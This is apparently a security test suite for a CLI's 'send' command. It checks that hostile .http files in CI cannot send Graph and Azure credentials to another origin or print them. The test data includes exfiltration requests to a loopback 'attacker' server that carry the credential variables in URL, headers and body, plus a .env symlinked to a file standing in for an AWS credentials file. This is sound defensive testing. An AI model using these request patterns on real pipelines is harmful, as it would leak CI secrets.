import { after, afterEach, before, beforeEach, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { json, startLoopback, type Loopback } from '../send/loopback';

/**
 * Issue 11 (high): a `.http` file from a pull request, run by `send` in CI, must not deliver the CLI's
 * credentials to a host of its choosing, and nothing the CLI prints may hold them. Each test is the
 * attack as written: a hostile file (and `.env`) in a fresh folder, the real dist/cli.js, a real
 * "Graph" endpoint and a real attacker server on loopback (a different port is a different origin).
 */
const CLI = join(process.cwd(), 'dist', 'cli.js');
/** Opaque on purpose: the regex redactor cannot recognise it, only a redactor that knows the value. */
const TOKEN = 'opaque-ci-token-7f3a9c1e5b2d4f60';
const CLIENT_SECRET = 'Qw8~client.secret_value-2291';

interface Run { code: number | null; stdout: string; stderr: string }

function runCli(args: string[], env: NodeJS.ProcessEnv, cwd: string): Promise<Run> {
  return new Promise(resolve => {
    const child = spawn(process.execPath, ['--max-old-space-size=256', CLI, ...args], { env: { PATH: process.env.PATH, HOME: process.env.HOME, ...env }, cwd });
    let stdout = '', stderr = '';
    child.stdout.on('data', d => { stdout += d; });
    child.stderr.on('data', d => { stderr += d; });
    child.on('close', code => resolve({ code, stdout, stderr }));
  });
}

before(() => { if (!existsSync(CLI)) spawnSync(process.execPath, ['scripts/build.mjs'], { stdio: 'inherit' }); });

describe('send: a hostile .http file in CI', () => {
  let graph: Loopback, attacker: Loopback, dir: string;
  const ENV = { GRAPH_ACCESS_TOKEN: TOKEN, AZURE_CLIENT_SECRET: CLIENT_SECRET };

  before(async () => {
    graph = await startLoopback((req, res) => {
      if (req.url.startsWith('/beta/echo')) { json(res, 200, { echo: req.headers.authorization?.replace(/^Bearer /, '') }, { location: `${graph.origin}/x?t=${TOKEN}` }); return; }
      if (req.url.startsWith('/beta/name')) { json(res, 200, { env: 'BUILD_ID' }); return; }
      if (req.url.startsWith('/beta/redirect')) { res.writeHead(302, { location: `${attacker.origin}/landed` }); res.end(); return; }
      json(res, 200, { value: [] });
    });
    attacker = await startLoopback((_req, res) => json(res, 200, { thanks: true }));
  });
  after(async () => { await graph.close(); await attacker.close(); });
  beforeEach(() => {
    graph.seen.length = 0;
    attacker.seen.length = 0;
    dir = mkdtempSync(join(tmpdir(), 'gcg-hostile-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  function write(name: string, text: string): string {
    const path = join(dir, name);
    writeFileSync(path, text);
    return path;
  }

  async function send(httpText: string, extra: string[] = [], env: NodeJS.ProcessEnv = ENV): Promise<Run> {
    const file = write('pr.http', httpText);
    const r = await runCli(['send', file, '--all', '--graph-endpoint', graph.origin, ...extra], env, dir);
    for (const secret of [TOKEN, CLIENT_SECRET]) {
      assert.ok(!(r.stdout + r.stderr).includes(secret), `a secret was printed:\n${r.stdout}\n${r.stderr}`);
      for (const s of attacker.seen) assert.ok(!JSON.stringify(s).includes(secret), `the attacker received a secret: ${JSON.stringify(s)}`);
    }
    return r;
  }

  test('$processEnv of the CLI\'s own credentials (GRAPH_ACCESS_TOKEN, AZURE_CLIENT_SECRET): exit 2, nothing sent', async () => {
    const r = await send(`GET ${attacker.origin}/c?t={{$processEnv GRAPH_ACCESS_TOKEN}}\nX-Secret: {{$processEnv AZURE_CLIENT_SECRET}}\n`);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /GRAPH_ACCESS_TOKEN.*(credential|never)/);
    assert.equal(attacker.seen.length + graph.seen.length, 0, 'nothing was sent');
  });

  test('allowing a credential variable (--allow-env or GCG_ALLOW_ENV) is itself refused: exit 2, nothing sent', async () => {
    const text = `GET ${attacker.origin}/c?t={{$processEnv GRAPH_ACCESS_TOKEN}}\n`;
    const a = await send(text, ['--allow-env', 'GRAPH_ACCESS_TOKEN']);
    assert.equal(a.code, 2, a.stderr);
    assert.match(a.stderr, /GRAPH_ACCESS_TOKEN/);
    const b = await send(`GET ${attacker.origin}/c?s={{$processEnv AZURE_CLIENT_SECRET}}\n`, [], { ...ENV, GCG_ALLOW_ENV: 'AZURE_CLIENT_SECRET' });
    assert.equal(b.code, 2, b.stderr);
    assert.match(b.stderr, /AZURE_CLIENT_SECRET/);
    assert.equal(attacker.seen.length, 0);
  });

  test('$processEnv of a name nobody allowed: exit 2 before the first request; --allow-env NAME and GCG_ALLOW_ENV allow it', async () => {
    const text = `GET /beta/first\n\n###\nGET /beta/ci?build={{$processEnv BUILD_ID}}\n`;
    const refused = await send(text, [], { ...ENV, BUILD_ID: '42' });
    assert.equal(refused.code, 2, refused.stderr);
    assert.match(refused.stderr, /BUILD_ID.*--allow-env BUILD_ID.*GCG_ALLOW_ENV/s);
    assert.equal(graph.seen.length, 0, 'not even the first request was sent');

    const flag = await send(text, ['--allow-env', 'BUILD_ID'], { ...ENV, BUILD_ID: '42' });
    assert.equal(flag.code, 0, flag.stderr);
    assert.equal(graph.seen.at(-1)?.url, '/beta/ci?build=42');
    const viaEnv = await send(text, [], { ...ENV, BUILD_ID: '43', GCG_ALLOW_ENV: 'OTHER, BUILD_ID' });
    assert.equal(viaEnv.code, 0, viaEnv.stderr);
    assert.equal(graph.seen.at(-1)?.url, '/beta/ci?build=43');
  });

  test('a name only a response supplies ($processEnv %var): refused when its request comes up, exit 2, that request not sent', async () => {
    const r = await send('# @name n\nGET /beta/name\n\n###\nGET /beta/x?v={{$processEnv %n.response.body.$.env}}\n', [], { ...ENV, BUILD_ID: '42' });
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /BUILD_ID is not allowed/);
    assert.deepEqual(graph.seen.map(s => s.url), ['/beta/name']);
  });

  for (const [where, text] of [
    ['URL', (o: string) => `GET ${o}/c?t={{t}}\n`],
    ['header', (o: string) => `GET ${o}/c\nX-Forward: {{t}}\n`],
    ['body', (o: string) => `POST ${o}/c\nContent-Type: application/json\n\n{"k": "{{t}}"}\n`],
  ] as const) {
    test(`a known secret in the ${where} of a request to a non-Graph origin (via --var): refused, exit 1, nothing sent`, async () => {
      for (const secret of [TOKEN, CLIENT_SECRET]) {
        const r = await send(text(attacker.origin), ['--var', `t=${secret}`]);
        assert.equal(r.code, 1, r.stderr);
        assert.match(r.stderr, /Refused to send.*not the Graph endpoint/s);
        assert.equal(attacker.seen.length, 0);
      }
    });
  }

  test('a known secret in a committed .env, sent to a non-Graph origin: refused, exit 1', async () => {
    write('.env', `LEAK=${CLIENT_SECRET}\n`);
    const r = await send(`GET ${attacker.origin}/c?x={{$dotenv LEAK}}\n`);
    assert.equal(r.code, 1, r.stderr);
    assert.equal(attacker.seen.length, 0);
  });

  test('a token the Graph endpoint echoed, chained into a request to another origin: refused; the echo itself is not printed', async () => {
    const r = await send(`# @name first\nGET /beta/echo\n\n###\nGET ${attacker.origin}/c?t={{first.response.body.$.echo}}\n`, ['--json']);
    assert.equal(r.code, 1, r.stderr);
    assert.equal(graph.seen.length, 1);
    assert.equal(attacker.seen.length, 0);
  });

  test('a redirect from the Graph endpoint to another origin carrying a secret in a custom header: refused at that hop', async () => {
    const r = await send('GET /beta/redirect\nX-Custom: {{t}}\n', ['--var', `t=${TOKEN}`]);
    assert.equal(r.code, 1, r.stderr);
    assert.equal(graph.seen.length, 1);
    assert.equal(attacker.seen.length, 0);
  });

  test('an opaque token echoed by the server is redacted from text and --json output (body and headers)', async () => {
    for (const flags of [[], ['--json'], ['--verbose']]) {
      const r = await send('GET /beta/echo\n', flags);
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, /<redacted>/);
    }
  });

  test('.env symlinked to a file outside the folder (~/.aws/credentials): exit 2, clear error, nothing sent', async () => {
    const outside = mkdtempSync(join(tmpdir(), 'gcg-home-'));
    try {
      writeFileSync(join(outside, 'credentials'), 'aws_secret_access_key=AKIAsecretvalue\n');
      symlinkSync(join(outside, 'credentials'), join(dir, '.env'));
      const r = await send(`GET ${attacker.origin}/c?k={{$dotenv aws_secret_access_key}}\n`);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, /\.env.*outside/);
      assert.ok(!(r.stdout + r.stderr).includes('AKIAsecretvalue'));
      assert.equal(attacker.seen.length, 0);
    } finally { rmSync(outside, { recursive: true, force: true }); }
  });

  test('.env -> /dev/zero: a clear error at once, memory bounded (256 MB heap)', async () => {
    symlinkSync('/dev/zero', join(dir, '.env'));
    const r = await send('GET /beta/x?v={{$dotenv X}}\n');
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /\.env/);
    assert.equal(graph.seen.length, 0);
  });

  test('.env as a FIFO: a clear error at once, the CLI does not wait for a writer', { skip: process.platform === 'win32' }, async () => {
    spawnSync('mkfifo', [join(dir, '.env')]);
    const r = await send('GET /beta/x?v={{$dotenv X}}\n');
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /not a regular file/);
    assert.equal(graph.seen.length, 0);
  });

  test('.env over 1 MB, or not a regular file: exit 2; a .env inside the folder still works', async () => {
    write('.env', `X=${'a'.repeat(1024 * 1024)}\n`);
    const big = await send('GET /beta/x?v={{$dotenv X}}\n');
    assert.equal(big.code, 2, big.stderr);
    assert.match(big.stderr, /1 MB/);

    rmSync(join(dir, '.env'));
    mkdirSync(join(dir, '.env'));
    const folder = await send('GET /beta/x?v={{$dotenv X}}\n');
    assert.equal(folder.code, 2, folder.stderr);
    assert.match(folder.stderr, /not a regular file/);

    rmSync(join(dir, '.env'), { recursive: true });
    mkdirSync(join(dir, 'config'));
    writeFileSync(join(dir, 'config', 'ci.env'), 'X=fine\n');
    symlinkSync(join(dir, 'config', 'ci.env'), join(dir, '.env'));
    const ok = await send('GET /beta/x?v={{$dotenv X}}\n');
    assert.equal(ok.code, 0, ok.stderr);
    assert.equal(graph.seen.at(-1)?.url, '/beta/x?v=fine');
    assert.equal(graph.seen.length, 1);
  });
});
